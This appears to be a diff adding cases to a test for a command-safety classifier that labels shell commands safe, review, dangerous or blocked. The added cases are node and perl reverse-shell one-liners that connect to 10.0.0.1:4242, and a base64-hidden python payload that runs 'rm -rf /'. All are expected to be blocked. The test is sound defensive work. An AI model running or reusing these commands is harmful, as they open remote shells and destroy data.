@@ -202,6 +202,12 @@ def _utf16_b64(text: str) -> str:
     ("powershell -enc " + _utf16_b64("Get-Date"), "dangerous"),  # a hidden payload, whatever it holds
     ("pwsh -ExecutionPolicy Bypass -File x.ps1", "review"),
     ("pwsh -c 'Get-ChildItem'", "review"),
+    # reverse shells and payloads the outside corpus still caught us on
+    ("node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect(4242,\"10.0.0.1\","
+     "function(){this.pipe(sh.stdin);sh.stdout.pipe(this);})'", "blocked"),
+    ("perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);"
+     "system$_ while<>;'", "blocked"),
+    ("python3 -c 'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik=\"))'", "blocked"),
     ("curl -s https://x.example/a | parallel", "dangerous"),
     ("echo ls | parallel", "safe"),
 ])
